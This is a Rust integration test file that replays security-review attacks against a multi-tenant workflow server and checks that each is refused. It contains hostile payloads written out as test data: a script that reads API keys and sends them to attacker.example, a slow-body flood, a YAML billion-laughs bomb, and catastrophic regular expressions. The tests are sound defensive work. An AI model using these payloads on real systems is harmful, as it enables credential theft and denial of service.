//! Attacks from the security review (issue 18), each performed against the
//! real binary: one tenant taking over another's webhook path, a webhook
//! answer acting on the UI's origin, keys and members wider than their
//! maker, a tenant admin granting itself platform actions, and a slow-body
//! flood on one tenant's webhook.

use std::time::Duration;

use reqwest::Method;
use serde_json::{Value, json};

use crate::serve::{Server, call, start_with};

async fn api(server: &Server, method: Method, path: &str, key: &str, body: Value) -> (u16, Value) {
    call(
        method,
        &format!("{}{path}", server.api()),
        Some(key),
        "application/json",
        body.to_string(),
    )
    .await
}

/// A workflow stored by `key`; its id.
async fn push(server: &Server, key: &str, yaml: &str) -> String {
    let (status, created) = call(
        Method::POST,
        &format!("{}/workflows", server.api()),
        Some(key),
        "application/yaml",
        yaml.to_owned(),
    )
    .await;
    assert_eq!(status, 201, "{created}");
    created["id"].as_str().unwrap().to_owned()
}

async fn activate(server: &Server, key: &str, id: &str) -> (u16, Value) {
    api(
        server,
        Method::POST,
        &format!("/workflows/{id}/activate"),
        key,
        json!({}),
    )
    .await
}

/// A tenant made by the platform owner; its id and owner key.
async fn tenant(server: &Server, owner: &str, name: &str) -> (String, String) {
    let (status, made) = api(
        server,
        Method::POST,
        "/tenants",
        owner,
        json!({ "name": name }),
    )
    .await;
    assert_eq!(status, 201, "{made}");
    (
        made["id"].as_str().unwrap().to_owned(),
        made["ownerKey"]["key"].as_str().unwrap().to_owned(),
    )
}

/// A workflow whose webhook at `path` answers `{"tenant": <who>}`.
fn answering(name: &str, path: &str, who: &str) -> String {
    format!(
        "name: {name}\nnodes:\n  - {{id: hook, type: webhook, params: {{path: {path}, method: POST}}}}\n  - {{id: answer, type: set, params: {{keepOnlySet: true, fields: {{tenant: {who}}}}}}}\nconnections:\n  - {{from: hook, to: answer}}\n"
    )
}

async fn deliver(server: &Server, path: &str) -> (u16, Value) {
    call(
        Method::POST,
        &format!("{}/webhook/{path}", server.base),
        None,
        "application/json",
        "{}".into(),
    )
    .await
}

/// The answer at `path` once it is not 404 (another process hears of an
/// activation through Redis), polled for at most 30 seconds.
async fn delivered(server: &Server, path: &str) -> (u16, Value) {
    for _ in 0..300 {
        let answer = deliver(server, path).await;
        if answer.0 != 404 {
            return answer;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("POST /webhook/{path} stayed 404");
}

/// Two tenants activate a workflow on the same webhook path at once, through
/// `first` and `second` (one process, or two on one database): one holds the
/// path, the other is refused without learning whose it is, and deliveries
/// reach only the holder, also after it deactivates.
async fn one_path_two_tenants(first: &Server, second: &Server) {
    let owner = first.key.clone();
    let (_, globex) = tenant(first, &owner, "Globex").await;
    let acme_flow = push(first, &owner, &answering("acme-stripe", "stripe", "acme")).await;
    let globex_flow = push(
        second,
        &globex,
        &answering("globex-stripe", "stripe", "globex"),
    )
    .await;

    let (acme, globex_answer) = tokio::join!(
        activate(first, &owner, &acme_flow),
        activate(second, &globex, &globex_flow)
    );
    let mut statuses = [acme.0, globex_answer.0];
    statuses.sort();
    assert_eq!(
        statuses,
        [200, 409],
        "one tenant holds the path: {acme:?} {globex_answer:?}"
    );
    let (winner, winner_key, winner_flow, loser_key, loser_flow, refused) = if acme.0 == 200 {
        (
            "acme",
            &owner,
            &acme_flow,
            &globex,
            &globex_flow,
            globex_answer.1,
        )
    } else {
        ("globex", &globex, &globex_flow, &owner, &acme_flow, acme.1)
    };
    let message = refused["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("POST /webhook/stripe") && message.contains("another tenant"),
        "{refused}"
    );
    assert!(
        !message.contains("acme-stripe")
            && !message.contains("globex-stripe")
            && !message.contains(winner_flow.as_str()),
        "the refusal does not name another tenant's workflow: {message}"
    );
    for server in [first, second] {
        assert_eq!(
            delivered(server, "stripe").await,
            (200, json!({ "tenant": winner }))
        );
    }

    // Deactivated, the path stays the holder's: deliveries still on their
    // way are not handed to the other tenant.
    let (status, _) = api(
        first,
        Method::POST,
        &format!("/workflows/{winner_flow}/deactivate"),
        winner_key,
        json!({}),
    )
    .await;
    assert_eq!(status, 200);
    let (status, again) = activate(second, loser_key, loser_flow).await;
    assert_eq!(status, 409, "{again}");
    assert_eq!(deliver(first, "stripe").await.0, 404);

    // Within its own tenant the holder is named, and an inactive holder's
    // path passes to the workflow activated now.
    let successor = push(
        first,
        winner_key,
        &answering("successor", "stripe", "successor"),
    )
    .await;
    let (status, body) = activate(first, winner_key, &successor).await;
    assert_eq!(status, 200, "{body}");
    let (status, body) = activate(first, winner_key, winner_flow).await;
    assert_eq!(status, 409, "{body}");
    let message = body["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("`successor`") && message.contains("deactivate it"),
        "{message}"
    );
    assert_eq!(
        deliver(first, "stripe").await,
        (200, json!({ "tenant": "successor" }))
    );
}

#[tokio::test]
async fn a_tenant_cannot_take_over_another_tenants_webhook_path_on_sqlite() {
    let data = tempfile::tempdir().unwrap();
    let server = start_with(data.path(), &[]).await;
    one_path_two_tenants(&server, &server).await;
}

#[tokio::test]
async fn a_tenant_cannot_take_over_another_tenants_webhook_path_on_postgresql_across_processes() {
    let database = n8n_work_store::testing::postgres().await.unwrap();
    let prefix = format!("n8n-work-test-{}", uuid::Uuid::new_v4().simple());
    let (first_dir, second_dir) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let flags = [
        "--database-url",
        database.url.as_str(),
        "--redis-url",
        "redis://127.0.0.1:6379",
        "--redis-prefix",
        prefix.as_str(),
    ];
    let first = start_with(first_dir.path(), &flags).await;
    let mut second = start_with(second_dir.path(), &flags).await;
    // Only the first start makes the platform owner's key.
    second.key = first.key.clone();
    one_path_two_tenants(&first, &second).await;
}

#[tokio::test]
async fn a_webhook_answer_cannot_set_a_cookie_or_run_script_on_the_uis_origin() {
    let data = tempfile::tempdir().unwrap();
    let server = start_with(data.path(), &[]).await;
    // The respond node's headers come from an expression, so no check of the
    // workflow's text can see them.
    let page = "
name: page
nodes:
  - {id: hook, type: webhook, params: {path: page, method: POST, respond: responseNode}}
  - id: reply
    type: respond
    params:
      respondWith: text
      responseBody: \"<script>fetch('/api/v1/keys').then(r => r.text()).then(t => fetch('https://attacker.example/?' + t))</script>\"
      headers: '{{ $json.body.headers }}'
connections:
  - {from: hook, to: reply}
";
    let id = push(&server, &server.key, page).await;
    let (status, body) = activate(&server, &server.key, &id).await;
    assert_eq!(status, 200, "{body}");
    let planted = json!({ "headers": {
        "Set-Cookie": "n8n_work_session=planted; Path=/",
        "Content-Security-Policy": "default-src *",
        "X-Content-Type-Options": "sniff",
        "Connection": "close, x-forwarded-for",
        "X-Kept": "yes",
    }});
    let client = reqwest::Client::new();
    let answer = client
        .post(format!("{}/webhook/page", server.base))
        .header("content-type", "application/json")
        .body(planted.to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), 200);
    let headers = answer.headers().clone();
    let text = answer.text().await.unwrap();
    assert!(text.contains("<script>"), "the page is served: {text}");
    assert!(
        headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/html"),
        "{headers:?}"
    );
    assert!(
        headers.get("set-cookie").is_none(),
        "no cookie is set: {headers:?}"
    );
    assert_eq!(headers["x-kept"], "yes", "other headers pass: {headers:?}");
    let sandboxed = |headers: &reqwest::header::HeaderMap| {
        let csp: Vec<&str> = headers
            .get_all("content-security-policy")
            .iter()
            .map(|v| v.to_str().unwrap())
            .collect();
        assert_eq!(csp.len(), 1, "{headers:?}");
        assert!(
            csp[0].starts_with("sandbox") && !csp[0].contains("allow-same-origin"),
            "{csp:?}"
        );
        assert_eq!(headers["x-content-type-options"], "nosniff", "{headers:?}");
    };
    sandboxed(&headers);

    // Errors too: an unknown path, and a trigger's own answer.
    let missing = client
        .post(format!("{}/webhook/nowhere", server.base))
        .send()
        .await
        .unwrap();
    assert_eq!(missing.status(), 404);
    sandboxed(missing.headers());
    let resumed = client
        .post(format!("{}/resume/not-a-token", server.base))
        .header("content-type", "application/json")
        .body("{}")
        .send()
        .await
        .unwrap();
    assert_eq!(resumed.status(), 404);
    sandboxed(resumed.headers());
}

#[tokio::test]
async fn with_webhook_listen_webhook_pages_are_served_on_an_origin_of_their_own() {
    let data = tempfile::tempdir().unwrap();
    let server = start_with(data.path(), &["--webhook-listen", "127.0.0.1:0"]).await;
    let hooks = server
        .hooks
        .clone()
        .expect("serve said where the webhooks are");
    assert_ne!(hooks, server.base, "another origin");
    let page = "
name: page
nodes:
  - {id: hook, type: webhook, params: {path: page, method: POST, respond: responseNode}}
  - id: reply
    type: respond
    params: {respondWith: text, responseBody: \"<script>fetch('/api/v1/keys')</script>\"}
  - {id: pause, type: wait, params: {resume: call}}
connections:
  - {from: hook, to: reply}
  - {from: reply, to: pause}
";
    let id = push(&server, &server.key, page).await;
    let (status, body) = activate(&server, &server.key, &id).await;
    assert_eq!(status, 200, "{body}");
    // On the UI's origin, no workflow answers: a 404 that says where to go.
    let (status, body) = call(
        Method::POST,
        &format!("{}/webhook/page", server.base),
        None,
        "application/json",
        "{}".into(),
    )
    .await;
    assert_eq!(status, 404, "{body}");
    let message = body["error"]["message"].as_str().unwrap_or_default();
    assert!(message.contains(&hooks), "{body}");
    // On its own origin the page is served, and nothing of the UI is there.
    let (status, body) = call(
        Method::POST,
        &format!("{hooks}/webhook/page"),
        None,
        "application/json",
        "{}".into(),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert!(
        body.as_str().unwrap_or_default().contains("<script>"),
        "{body}"
    );
    for path in ["/api/v1/keys", "/", "/index.html", "/api/v1/session"] {
        let (status, body) = call(
            Method::GET,
            &format!("{hooks}{path}"),
            Some(&server.key),
            "",
            String::new(),
        )
        .await;
        assert_eq!(status, 404, "{path}: {body}");
    }
    // The run waits; its resume URL is on the webhooks' origin, and works.
    let (_, runs) = api(
        &server,
        Method::GET,
        "/executions?status=running",
        &server.key,
        Value::Null,
    )
    .await;
    let run = runs["items"][0]["id"]
        .as_str()
        .expect("a waiting run")
        .to_owned();
    let (_, detail) = api(
        &server,
        Method::GET,
        &format!("/executions/{run}"),
        &server.key,
        Value::Null,
    )
    .await;
    let url = detail["resumeUrls"]["pause"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    assert!(url.starts_with(&format!("{hooks}/resume/")), "{detail}");
    let (status, body) = call(Method::POST, &url, None, "application/json", "{}".into()).await;
    assert_eq!(status, 202, "{body}");
}

#[tokio::test]
async fn a_key_cannot_make_a_key_or_member_wider_than_its_own_scopes() {
    let data = tempfile::tempdir().unwrap();
    let server = start_with(data.path(), &[]).await;
    let owner = server.key.clone();
    let (status, made) = api(
        &server,
        Method::POST,
        "/keys",
        &owner,
        json!({ "role": "admin", "name": "key maker", "scopes": ["key.write"] }),
    )
    .await;
    assert_eq!(status, 201, "{made}");
    let narrow = made["key"].as_str().unwrap().to_owned();

    for wider in [json!(["*"]), json!(["workflow.read"]), json!(["key.*"])] {
        let (status, body) = api(
            &server,
            Method::POST,
            "/keys",
            &narrow,
            json!({ "role": "admin", "scopes": wider }),
        )
        .await;
        assert_eq!(status, 403, "{wider}: {body}");
        let message = body["error"]["message"].as_str().unwrap();
        assert!(message.contains("key.write"), "{message}");
    }
    // Without scopes, a new key gets its maker's.
    let (status, body) = api(
        &server,
        Method::POST,
        "/keys",
        &narrow,
        json!({ "role": "editor" }),
    )
    .await;
    assert_eq!(status, 201, "{body}");
    assert_eq!(body["scopes"], json!(["key.write"]));
    let (status, body) = api(
        &server,
        Method::POST,
        "/keys",
        &narrow,
        json!({ "role": "viewer", "scopes": ["key.write"] }),
    )
    .await;
    assert_eq!(status, 201, "as narrow is fine: {body}");

    // A member's sessions may do all its role allows: a scoped key cannot
    // add one.
    let (status, body) = api(
        &server,
        Method::POST,
        "/members",
        &narrow,
        json!({ "email": "mallory@example.com", "role": "admin" }),
    )
    .await;
    assert_eq!(status, 403, "{body}");
    let (status, body) = api(
        &server,
        Method::POST,
        "/members",
        &owner,
        json!({ "email": "ada@example.com", "role": "admin" }),
    )
    .await;
    assert_eq!(status, 201, "{body}");
}

#[tokio::test]
async fn the_platform_tenants_admin_cannot_grant_itself_platform_actions() {
    let data = tempfile::tempdir().unwrap();
    let server = start_with(data.path(), &[]).await;
    let (status, made) = api(
        &server,
        Method::POST,
        "/keys",
        &server.key,
        json!({ "role": "admin", "name": "admin" }),
    )
    .await;
    assert_eq!(status, 201, "{made}");
    let admin = made["key"].as_str().unwrap().to_owned();
    let grant = r#"permit (principal, action in [N8nWork::Action::"tenant.create", N8nWork::Action::"vault.rotate", N8nWork::Action::"tenant.limits"], resource);"#;
    let (status, body) = api(
        &server,
        Method::PUT,
        "/policies",
        &admin,
        json!({ "text": grant }),
    )
    .await;
    assert_eq!(status, 200, "an admin writes its tenant's policies: {body}");
    for (method, path, body) in [
        (Method::POST, "/tenants", json!({ "name": "Shadow" })),
        (Method::GET, "/vault", Value::Null),
        (Method::POST, "/vault/rotate", json!({})),
        (
            Method::PUT,
            "/limits",
            json!({ "tenant": "default", "requestsPerSecond": 1000000 }),
        ),
    ] {
        let (status, answer) = api(&server, method.clone(), path, &admin, body).await;
        assert_eq!(status, 403, "{method} {path}: {answer}");
    }
    // The platform owner still may.
    let (status, body) = api(
        &server,
        Method::POST,
        "/tenants",
        &server.key,
        json!({ "name": "Real" }),
    )
    .await;
    assert_eq!(status, 201, "{body}");
}

/// A request to `path` that declares a body and sends one byte of it,
/// then holds the connection open.
async fn slow_body(base: &str, path: &str) -> tokio::net::TcpStream {
    use tokio::io::AsyncWriteExt;
    let address = base.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(address).await.unwrap();
    stream
        .write_all(
            format!(
                "POST /webhook/{path} HTTP/1.1\r\nHost: {address}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{{"
            )
            .as_bytes(),
        )
        .await
        .unwrap();
    stream
}

#[tokio::test]
async fn a_slow_body_flood_on_one_tenants_webhook_leaves_another_tenants_answering() {
    let data = tempfile::tempdir().unwrap();
    // Bodies may take long here, so the flood is still open when the other
    // tenant's delivery is answered.
    let env = [(
        "N8N_WORK_WEBHOOK_BODY_TIMEOUT_SECS".to_owned(),
        "600".to_owned(),
    )];
    let server = crate::serve::start_env(data.path(), &["--max-in-flight", "8"], &env).await;
    let owner = server.key.clone();
    let (_, globex) = tenant(&server, &owner, "Globex").await;
    let flooded = push(&server, &owner, &answering("flooded", "flooded", "acme")).await;
    let calm = push(&server, &globex, &answering("calm", "calm", "globex")).await;
    for (key, id) in [(&owner, &flooded), (&globex, &calm)] {
        let (status, body) = activate(&server, key, id).await;
        assert_eq!(status, 200, "{body}");
    }

    // As many slow bodies as the whole server admits, all on one tenant's
    // path; the tenant's own deliveries are refused once they hold its
    // places.
    let mut flood = Vec::new();
    for _ in 0..8 {
        flood.push(slow_body(&server.base, "flooded").await);
    }
    let mut saturated = false;
    for _ in 0..300 {
        if deliver(&server, "flooded").await.0 == 429 {
            saturated = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(saturated, "the flood fills the tenant's places");

    assert_eq!(
        deliver(&server, "calm").await,
        (200, json!({ "tenant": "globex" })),
        "the other tenant is answered during the flood"
    );
    // Some of the flood is still being read, unanswered.
    let mut open = 0;
    let mut buffer = [0u8; 1];
    for stream in &flood {
        if matches!(stream.try_read(&mut buffer), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock)
        {
            open += 1;
        }
    }
    assert!(open > 0, "the slow bodies are still open");
}
#[tokio::test]
async fn behind_an_https_public_url_the_sign_in_cookie_is_secure_and_the_data_is_private() {
    let parent = tempfile::tempdir().unwrap();
    // A data directory the server makes.
    let data = parent.path().join("data");
    let server = start_with(&data, &["--public-url", "https://n8n.example.test"]).await;
    assert!(
        server.printed_key.is_none(),
        "the owner key is not printed when stdout is not a terminal"
    );
    let answer = reqwest::Client::new()
        .post(format!("{}/session", server.api()))
        .header("content-type", "application/json")
        .body(json!({ "key": server.key }).to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), 200);
    let cookie = answer.headers()["set-cookie"].to_str().unwrap().to_owned();
    assert!(cookie.contains("; Secure"), "{cookie}");

    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode =
            |path: &std::path::Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
        assert_eq!(
            mode(&data),
            0o700,
            "the data directory is the server's alone"
        );
        assert_eq!(mode(&data.join("n8n-work.db")), 0o600, "so is the database");
    }
}

fn audit_verify(data: &std::path::Path, env: &[(String, String)]) -> (bool, String) {
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_n8n-work"))
        .args(["audit", "verify", "--data-dir"])
        .arg(data)
        .envs(env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    (output.status.success(), text)
}

#[tokio::test]
async fn audit_verify_fails_when_the_checkpoint_is_missing_or_rewritten() {
    let data = tempfile::tempdir().unwrap();
    let keys = tempfile::tempdir().unwrap();
    let env = crate::access::audit_env(keys.path());
    let mut server = crate::serve::start_env(data.path(), &[], &env).await;
    for role in ["viewer", "editor"] {
        let (status, body) = api(
            &server,
            Method::POST,
            "/keys",
            &server.key,
            json!({ "role": role }),
        )
        .await;
        assert_eq!(status, 201, "{body}");
    }
    let (_, lines) = api(&server, Method::GET, "/audit", &server.key, Value::Null).await;
    let first: Value =
        serde_json::from_str(lines.as_str().unwrap().lines().next().unwrap()).unwrap();
    server.child.kill().await.unwrap();
    server.child.wait().await.unwrap();

    // The checkpoint lives outside the data directory, beside the audit key.
    let head = keys.path().join("audit.head");
    assert!(head.exists() && !data.path().join("audit.head").exists());
    let (ok, said) = audit_verify(data.path(), &env);
    assert!(ok, "{said}");

    // Someone who can write the database and the checkpoint, but has not
    // the key, cuts the log's tail and moves the checkpoint back to match.
    let original = std::fs::read(&head).unwrap();
    std::fs::write(
        &head,
        json!({ "seq": first["seq"], "mac": first["mac"] }).to_string(),
    )
    .unwrap();
    let (ok, said) = audit_verify(data.path(), &env);
    assert!(!ok, "a rewritten checkpoint is found: {said}");
    assert!(said.contains("checkpoint"), "{said}");

    std::fs::remove_file(&head).unwrap();
    let (ok, said) = audit_verify(data.path(), &env);
    assert!(!ok, "a missing checkpoint is found: {said}");
    assert!(said.contains("missing"), "{said}");

    std::fs::write(&head, original).unwrap();
    assert!(audit_verify(data.path(), &env).0);
}

/// A workflow parked at a Wait node until `/resume/{token}` is called; its
/// resume URL (`/resume/...`).
async fn parked_run(server: &Server, key: &str) -> String {
    let id = push(
        server,
        key,
        "name: approvals\nnodes:\n  - {id: hook, type: webhook, params: {path: approve, respond: onReceived}}\n  - {id: hold, type: wait, params: {resume: call}}\nconnections:\n  - {from: hook, to: hold}\n",
    )
    .await;
    let (status, body) = activate(server, key, &id).await;
    assert_eq!(status, 200, "{body}");
    let (status, accepted) = deliver(server, "approve").await;
    assert_eq!(status, 202, "{accepted}");
    let run = accepted["executionId"].as_str().unwrap().to_owned();
    let parked = crate::serve::execution_when(&server.api(), key, &run, |b| {
        b["resumeUrls"]["hold"].is_string()
    })
    .await;
    parked["resumeUrls"]["hold"].as_str().unwrap().to_owned()
}

#[tokio::test]
async fn a_flood_of_unknown_resume_tokens_is_refused_and_a_real_token_still_resumes() {
    let data = tempfile::tempdir().unwrap();
    let server = crate::serve::start(data.path()).await;
    let owner = server.key.clone();
    // Tokens live in every tenant: one parked run in a second tenant too.
    let (_, globex) = tenant(&server, &owner, "Globex").await;
    let resume_url = parked_run(&server, &globex).await;

    // Guessed tokens: 404 at first, then 429 with Retry-After.
    let client = reqwest::Client::new();
    let mut statuses = Vec::new();
    for i in 0..100 {
        let answer = client
            .post(format!("{}/resume/guess-{i}", server.base))
            .header("content-type", "application/json")
            .body("{}")
            .send()
            .await
            .unwrap();
        if answer.status() == 429 {
            assert!(answer.headers().contains_key("retry-after"));
            let body: Value = answer.json().await.unwrap();
            assert!(
                body["error"]["message"]
                    .as_str()
                    .unwrap()
                    .contains("unknown resume tokens"),
                "{body}"
            );
            statuses.push(429);
        } else {
            statuses.push(answer.status().as_u16());
        }
    }
    assert_eq!(statuses[0], 404);
    assert!(
        statuses.iter().all(|s| *s == 404 || *s == 429),
        "{statuses:?}"
    );
    assert_eq!(
        statuses.last(),
        Some(&429),
        "a flood of unknown tokens is refused: {statuses:?}"
    );

    // The real token still resumes its run, in its own tenant.
    let (status, resumed) = call(
        Method::POST,
        &format!("{}{resume_url}", server.base),
        None,
        "application/json",
        r#"{"ok":true}"#.into(),
    )
    .await;
    assert_eq!(status, 202, "{resumed}");
}

async fn preview(base: String, key: String, template: &str) -> Value {
    let (status, body) = call(
        Method::POST,
        &format!("{base}/api/v1/expressions/preview"),
        Some(&key),
        "application/json",
        json!({ "template": template }).to_string(),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    body
}

#[tokio::test]
async fn expression_previews_answer_within_their_deadline_while_the_server_goes_on_answering() {
    let data = tempfile::tempdir().unwrap();
    let server = crate::serve::start(data.path()).await;
    let key = server.key.clone();
    // The review's pattern runs on automata: a plain answer.
    let body = preview(
        server.base.clone(),
        key.clone(),
        "{{ /^(a+)+$/.test('a'.repeat(40)+'b') }}",
    )
    .await;
    assert_eq!(body["value"], json!(false), "{body}");

    // Previews that would match for half an hour, more than the server has
    // threads: each answers an error at its deadline, and other requests are
    // answered meanwhile.
    let slow = "{{ (()=>{ const s='ab'.repeat(4e6); let n=0; for(let i=0;i<1e5;i++) n+=/(a|b)*c/.test(s)?1:0; return n })() }}";
    let guarded = async {
        let previews: Vec<_> = (0..4)
            .map(|_| tokio::spawn(preview(server.base.clone(), key.clone(), slow)))
            .collect();
        let (status, _) = call(
            Method::GET,
            &format!("{}/workflows", server.api()),
            Some(&key),
            "application/json",
            String::new(),
        )
        .await;
        assert_eq!(status, 200);
        assert!(
            previews.iter().all(|p| !p.is_finished()),
            "the API answered only once previews were done"
        );
        for p in previews {
            let body = p.await.unwrap();
            let error = body["error"].as_str().unwrap_or_default();
            assert!(error.contains("deadline"), "{body}");
        }
    };
    tokio::time::timeout(Duration::from_secs(120), guarded)
        .await
        .expect("every preview answered within two minutes");
    // An expression that would abort the process is refused, and the
    // server is still there.
    let body = preview(
        server.base.clone(),
        key.clone(),
        "{{ (()=>{let s='x'.repeat(1e6); for(let i=0;i<30;i++) s=s+s; return s.length})() }}",
    )
    .await;
    assert!(
        body["error"]
            .as_str()
            .unwrap_or_default()
            .contains("larger than the limit"),
        "{body}"
    );
    let body = preview(server.base.clone(), key, "{{ 1 + 1 }}").await;
    assert_eq!(body["value"], json!(2));
}

/// A Set node whose expression does hours of native string work in a few
/// instructions: `replaceAll` on a megabyte, a hundred thousand times.
const NATIVE_LOOP: &str = r#"
name: native-loop
nodes:
  - {id: start, type: manual}
  - id: busy
    type: set
    params:
      fields:
        n: "{{ (()=>{ const s='x'.repeat(1e6); let n=0; for(let i=0;i<1e5;i++) n+=s.replaceAll('x','yy').length; return n })() }}"
connections:
  - {from: start, to: busy}
"#;

#[tokio::test]
async fn a_run_time_expression_is_stopped_at_its_deadline_inside_native_string_work() {
    let data = tempfile::tempdir().unwrap();
    let server = crate::serve::start(data.path()).await;
    let key = server.key.clone();
    let id = push(&server, &key, NATIVE_LOOP).await;
    let guarded = async {
        let run = tokio::spawn({
            let (base, key, id) = (server.api(), key.clone(), id.clone());
            async move {
                call(
                    Method::POST,
                    &format!("{base}/workflows/{id}/run?wait=true"),
                    Some(&key),
                    "application/json",
                    "{}".into(),
                )
                .await
            }
        });
        let (status, _) = api(&server, Method::GET, "/workflows", &key, Value::Null).await;
        assert_eq!(status, 200);
        let (status, ran) = run.await.unwrap();
        assert_eq!(
            (status, ran["status"].as_str()),
            (200, Some("failed")),
            "{ran}"
        );
        let message = ran["error"]["message"].as_str().unwrap_or_default();
        assert!(
            message.contains(&format!(
                "still running at its deadline of {} ms",
                n8n_work_engine::EXPRESSION_MILLIS
            )),
            "{ran}"
        );
    };
    tokio::time::timeout(Duration::from_secs(120), guarded)
        .await
        .expect("the run ended within two minutes, not after hours of string work");
}

#[tokio::test]
async fn documents_past_a_size_limit_are_refused_with_422_naming_the_limit() {
    let data = tempfile::tempdir().unwrap();
    let server = crate::serve::start(data.path()).await;
    let key = server.key.clone();
    let bomb = "name: bomb\nnodes: []\na: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\ne: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]\nf: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e]\ng: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f, *f]\n";
    let deep_json = format!(
        "{{\"name\": \"deep\", \"nodes\": [], \"x\": {}1{}}}",
        "[".repeat(200),
        "]".repeat(200)
    );
    for (path, content_type, body, limit) in [
        (
            "/workflows/validate",
            "application/yaml",
            bomb.to_owned(),
            "values",
        ),
        ("/workflows", "application/yaml", bomb.to_owned(), "values"),
        ("/workflows", "application/json", deep_json.clone(), "depth"),
        (
            "/workflows/validate",
            "application/json",
            deep_json,
            "depth",
        ),
    ] {
        let (status, answer) = call(
            Method::POST,
            &format!("{}{path}", server.api()),
            Some(&key),
            content_type,
            body,
        )
        .await;
        assert_eq!(status, 422, "{path}: {answer}");
        assert_eq!(answer["error"]["code"], "document_too_large", "{answer}");
        assert_eq!(answer["error"]["details"]["limit"], limit, "{answer}");
        let message = answer["error"]["message"].as_str().unwrap();
        assert!(
            message.contains("more than 1000000 values")
                || message.contains("more than 128 levels"),
            "{message}"
        );
    }

    // An n8n export nested past the limit is refused by `import n8n`, naming it.
    let export = data.path().join("deep.json");
    std::fs::write(
        &export,
        format!(
            "{{\"nodes\": [], \"x\": {}1{}}}",
            "[".repeat(200),
            "]".repeat(200)
        ),
    )
    .unwrap();
    let out = tokio::process::Command::new(env!("CARGO_BIN_EXE_n8n-work"))
        .args(["import", "n8n"])
        .arg(&export)
        .env("N8N_WORK_DATA_DIR", data.path().join("cli"))
        .output()
        .await
        .unwrap();
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("nests more than 128 levels"), "{stderr}");
}

#[tokio::test]
async fn a_master_key_rotation_reaches_the_other_api_process_on_postgresql() {
    let database = n8n_work_store::testing::postgres().await.unwrap();
    let prefix = format!("n8n-work-test-{}", uuid::Uuid::new_v4().simple());
    let (first_dir, second_dir, config) = (
        tempfile::tempdir().unwrap(),
        tempfile::tempdir().unwrap(),
        tempfile::tempdir().unwrap(),
    );
    // Both processes read the master key from one key file, which the
    // first start makes.
    let env = vec![(
        "XDG_CONFIG_HOME".to_owned(),
        config.path().display().to_string(),
    )];
    let flags = [
        "--database-url",
        database.url.as_str(),
        "--redis-url",
        "redis://127.0.0.1:6379",
        "--redis-prefix",
        prefix.as_str(),
    ];
    let first = crate::serve::start_env(first_dir.path(), &flags, &env).await;
    let mut second = crate::serve::start_env(second_dir.path(), &flags, &env).await;
    second.key = first.key.clone();
    let owner = first.key.clone();
    let (status, vault) = api(&first, Method::GET, "/vault", &owner, json!(null)).await;
    assert_eq!(status, 200, "{vault}");
    let old = vault["masterKeyId"].as_str().unwrap().to_owned();

    let (status, rotated) = api(
        &first,
        Method::POST,
        "/vault/rotate",
        &owner,
        json!({ "from": old }),
    )
    .await;
    assert_eq!(status, 200, "{rotated}");
    let new = rotated["masterKeyId"].as_str().unwrap().to_owned();
    assert_ne!(new, old);

    // The second process hears of it through Redis and uses the new key.
    let mut seen = String::new();
    for _ in 0..300 {
        let (_, vault) = api(&second, Method::GET, "/vault", &owner, json!(null)).await;
        seen = vault["masterKeyId"].as_str().unwrap_or_default().to_owned();
        if seen == new {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(seen, new, "the second process still uses the retired key");

    // A tenant's first data key, made on the second process after the
    // rotation, is wrapped under the new key: the first process opens it.
    let (_, globex) = tenant(&second, &owner, "Globex").await;
    let (status, made) = api(
        &second,
        Method::POST,
        "/credentials",
        &globex,
        json!({ "name": "crm", "type": "httpHeaderAuth", "value": { "token": "one" } }),
    )
    .await;
    assert_eq!(status, 201, "{made}");
    let id = made["id"].as_str().unwrap();
    let (status, changed) = api(
        &first,
        Method::PUT,
        &format!("/credentials/{id}"),
        &globex,
        json!({ "value": { "token": "two" } }),
    )
    .await;
    assert_eq!(
        status, 200,
        "the first process opens the new tenant's key: {changed}"
    );
}
